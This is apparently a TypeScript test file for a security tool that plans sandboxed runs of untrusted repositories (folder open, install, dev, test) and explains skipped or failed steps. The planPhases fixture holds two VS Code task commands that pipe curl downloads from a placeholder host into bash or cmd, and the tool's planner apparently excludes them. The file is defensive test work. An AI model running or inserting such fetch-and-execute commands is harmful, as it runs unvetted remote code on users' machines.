import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { whyNotRun } from './detonate.ts';
import { PROBE_TEST, discoverRoutes, parseDotenv, planPhases } from './phases.ts';

const dirs: string[] = [];
function repo(files: Record<string, string>): string {
  const root = mkdtempSync(join(tmpdir(), 'airlock-phases-'));
  dirs.push(root);
  for (const [p, body] of Object.entries(files)) {
    mkdirSync(dirname(join(root, p)), { recursive: true });
    writeFileSync(join(root, p), body);
  }
  return root;
}
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

describe('parseDotenv', () => {
  it('reads quotes, export, comments and multi-line values like dotenv', () => {
    const env = parseDotenv(
      '# c\nexport A=1\nB="two words" # x\nC=\'single\'\nD=plain # comment\nE="multi\nline"\nF="esc\\nape"\nbad line\n=nokey\n',
    );
    assert.deepEqual(env, { A: '1', B: 'two words', C: 'single', D: 'plain', E: 'multi\nline', F: 'esc\nape' });
  });
});

describe('discoverRoutes', () => {
  it("requests the routes of the framework models (the execution map's page-load entries) and Express literal GET routes", () => {
    const root = repo({
      'package.json': '{"dependencies":{"next":"14.2.3","express":"4.19.2"}}',
      'pages/api/users/[id].ts': 'export default function h() {}',
      'pages/api/index.js': 'export default function h() {}',
      'app/api/(v1)/items/route.ts': 'export async function GET() {}',
      'app/page.tsx': 'export default function P() { return null }',
      'app/(shop)/items/[slug]/page.tsx': 'export default function P() { return null }',
      'server/index.js':
        "const app = require('express')(); app.get('/health', (q, r) => r.end()); app.get('/u/:id', h); app.post('/x', h); router.get(dynamic, h);",
      'node_modules/x/pages/api/no.js': '',
    });
    assert.deepEqual(discoverRoutes(root).sort(), ['/', '/api', '/api/items', '/api/users/1', '/health', '/items/1', '/u/1']);
  });

  it('does not take folder names for a framework: without Next.js in package.json, pages/api is not a route', () => {
    const root = repo({ 'package.json': '{"dependencies":{}}', 'pages/api/hello.js': 'export default function h() {}' });
    assert.deepEqual(discoverRoutes(root), ['/']);
  });
});

describe('planPhases', () => {
  it('open runs the execution map; install the lifecycle scripts; dev the dev script with .env; test the test script', () => {
    const root = repo({
      'package.json': JSON.stringify(
        { scripts: { preinstall: 'a', postinstall: 'b', prepare: 'c', dev: 'next dev', test: 'vitest' } },
        null,
        2,
      ),
      '.env': 'API=1\n',
      '.env.local': 'API=2\nX=y\n',
      'node_modules/.keep': '',
    });
    const plans = planPhases({
      root,
      phases: ['open', 'install', 'dev', 'test'],
      surfaces: [
        {
          trigger: 'open',
          kind: 'vscode-task',
          location: { file: '.vscode/tasks.json', line: 4 },
          command: 'node .vscode/setup.js',
          reaches: [],
          name: 'setup',
        },
        {
          trigger: 'open',
          kind: 'vscode-task',
          location: { file: '.vscode/tasks.json', line: 5 },
          command: 'curl -s https://x.example.invalid/mac | bash',
          reaches: [],
          name: 'setup (macOS)',
        },
        {
          trigger: 'open',
          kind: 'vscode-task',
          location: { file: '.vscode/tasks.json', line: 6 },
          command: 'curl https://x.example.invalid/win | cmd',
          reaches: [],
          name: 'setup (Windows)',
        },
        {
          trigger: 'open',
          kind: 'devcontainer',
          location: { file: '.devcontainer/devcontainer.json' },
          entry: 'scripts/init.js',
          reaches: [],
        },
        {
          trigger: 'open',
          kind: 'vscode-settings-executable',
          location: { file: '.vscode/settings.json' },
          entry: 'bin/tool',
          reaches: [],
        },
        { trigger: 'install', kind: 'npm-script', location: { file: 'package.json' }, command: 'b', reaches: [] },
      ],
    });
    assert.deepEqual(
      plans.map(p => p.name),
      ['open', 'install', 'dev', 'test'],
    );
    const [open, install, dev, test] = plans;
    assert.ok(open && install && dev && test);
    assert.deepEqual(
      open.steps.map(s => s.command),
      ['node .vscode/setup.js', 'node scripts/init.js'],
    );
    assert.deepEqual(open.steps.at(0)?.source, { file: '.vscode/tasks.json', line: 4 });
    assert.deepEqual(
      install.steps.map(s => s.command),
      ['npm rebuild --foreground-scripts', 'npm run preinstall', 'npm run postinstall', 'npm run prepare'],
    );
    assert.deepEqual(install.steps.at(2)?.source, { file: 'package.json', line: 4 });
    assert.equal(dev.server, true);
    assert.deepEqual(dev.env, { API: '2', X: 'y' });
    assert.deepEqual(
      test.steps.map(s => s.command),
      ['npm test'],
    );
    assert.deepEqual(test.files, [PROBE_TEST], 'vitest with no test file gets the probe');
  });
  it('adds a probe test when jest or vitest would find none, so that their setup files run; not when tests exist', () => {
    const jest = { 'package.json': JSON.stringify({ scripts: { test: 'jest --ci' } }), 'jest.setup.js': 'x' };
    const without = planPhases({ root: repo(jest), phases: ['test'], surfaces: [] });
    assert.deepEqual(without[0]?.files, [PROBE_TEST]);
    const withTests = planPhases({ root: repo({ ...jest, 'src/__tests__/a.js': 'test()' }), phases: ['test'], surfaces: [] });
    assert.equal(withTests[0]?.files, undefined);
    const mocha = planPhases({
      root: repo({ 'package.json': JSON.stringify({ scripts: { test: 'mocha' } }) }),
      phases: ['test'],
      surfaces: [],
    });
    assert.equal(mocha[0]?.files, undefined);
  });
  it('explains skipped phases: no package.json, invalid JSON, nothing on open, npm default test', () => {
    const none = planPhases({ root: repo({ 'README.md': 'x' }), phases: ['open', 'install', 'dev', 'test'], surfaces: [] });
    assert.deepEqual(
      none.map(p => p.skipped),
      ['the execution map lists nothing that runs when the folder is opened', 'no package.json', 'no package.json', 'no package.json'],
    );
    const broken = planPhases({ root: repo({ 'package.json': '{ "scripts": ' }), phases: ['install'], surfaces: [] });
    assert.equal(broken[0]?.skipped, 'package.json is not valid JSON');
    const npmInit = planPhases({
      root: repo({ 'package.json': JSON.stringify({ scripts: { test: 'echo "Error: no test specified" && exit 1' } }) }),
      phases: ['test', 'dev'],
      surfaces: [],
    });
    assert.deepEqual(
      npmInit.map(p => p.skipped),
      ['no test script', 'no dev or start script'],
    );
  });
  it('takes explicit steps instead of derived ones', () => {
    const plans0 = planPhases({ root: repo({}), phases: ['open'], surfaces: [] });
    assert.equal(plans0[0]?.steps.length, 0);
    const plans = planPhases({ root: repo({}), phases: ['open'], surfaces: [], commands: { open: [{ label: 'x', command: 'true' }] } });
    assert.deepEqual(plans[0]?.steps, [{ label: 'x', command: 'true' }]);
  });
});

describe('whyNotRun', () => {
  const step = { label: 'dev', status: 'failed', exitCode: 1, stdout: '', stderr: '' };
  it('tells a missing tool, a missing module, no tests, a silent server and a lost result', () => {
    assert.match(whyNotRun({ ...step, exitCode: 127, stderr: 'sh: 1: next: not found\n' })?.why ?? '', /^`next` is not installed/);
    assert.match(
      whyNotRun({ ...step, stderr: "Error: Cannot find module 'axios'\nRequire stack:" })?.why ?? '',
      /^`axios` could not be loaded/,
    );
    assert.match(whyNotRun({ ...step, stdout: 'No tests found, exiting with code 1' })?.why ?? '', /found no tests/);
    assert.match(whyNotRun({ ...step, status: 'never-listened', exitCode: null })?.why ?? '', /never listened/);
    assert.match(whyNotRun({ ...step, status: 'no-result', exitCode: null })?.why ?? '', /result was lost/);
  });
  it('benign: a script that ran and failed, and a fallback after a missing command that succeeded', () => {
    assert.equal(whyNotRun({ ...step, stderr: 'Error: boom' }), undefined);
    assert.equal(whyNotRun({ ...step, status: 'ok', exitCode: 0, stderr: '/bin/sh: 1: start: not found\n' }), undefined);
  });
});
